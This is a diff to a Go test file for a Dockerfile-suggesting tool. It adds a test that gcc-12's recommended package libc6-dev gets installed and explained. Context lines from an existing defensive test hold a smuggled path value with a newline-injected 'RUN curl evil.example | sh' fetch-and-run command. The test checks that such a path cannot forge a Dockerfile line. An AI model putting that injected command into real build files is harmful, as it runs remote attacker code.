@@ -5,6 +5,7 @@ import (
 	"flag"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -400,5 +401,40 @@ func TestHostilePathForgesNoLine(t *testing.T) {
 	}
 	if len(got.Questions) != 2 || !strings.Contains(got.Questions[0], `"/opt/x\nRUN curl evil.example | sh"`) {
 		t.Errorf("questions %q", got.Questions)
+	}
+}
+
+// A build tool the container runs keeps what the original installed as its
+// recommendations: gcc-12 recommends libc6-dev (stdio.h, crt1.o), and the
+// final stage installs with --no-install-recommends, so libc6-dev must be
+// named or gcc cannot build the script's program. Without the Recommends
+// edge, nothing is added: the closure comes from the image's own graph.
+func TestToolRunKeepsItsRecommendations(t *testing.T) {
+	for _, tc := range []struct {
+		recommends bool
+		want       []string
+	}{{true, []string{"gcc-12", "libc6-dev"}}, {false, []string{"gcc-12"}}} {
+		fx := gccScriptFixture(t)
+		if tc.recommends {
+			old := "Depends: libisl23, libc6\n"
+			if !strings.Contains(fx.status, old) {
+				t.Fatal("the fixture's gcc-12 stanza changed")
+			}
+			fx.status = strings.Replace(fx.status, old, old+"Recommends: libc6-dev\n", 1)
+		}
+		got, err := Suggest(fx.build(t))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !slices.Equal(got.Packages, tc.want) {
+			t.Errorf("recommends %v: packages %v, want %v", tc.recommends, got.Packages, tc.want)
+		}
+		line := "RUN apt-get update && apt-get install -y --no-install-recommends " + strings.Join(tc.want, " ") + " \\"
+		if !strings.Contains(got.Dockerfile, line) {
+			t.Errorf("recommends %v: no line %q in\n%s", tc.recommends, line, got.Dockerfile)
+		}
+		if tc.recommends && !strings.Contains(got.Dockerfile, "#   libc6-dev: recommended by gcc-12, which the container runs, and installed with it in the original") {
+			t.Errorf("the reason for libc6-dev is not in the file:\n%s", got.Dockerfile)
+		}
 	}
 }
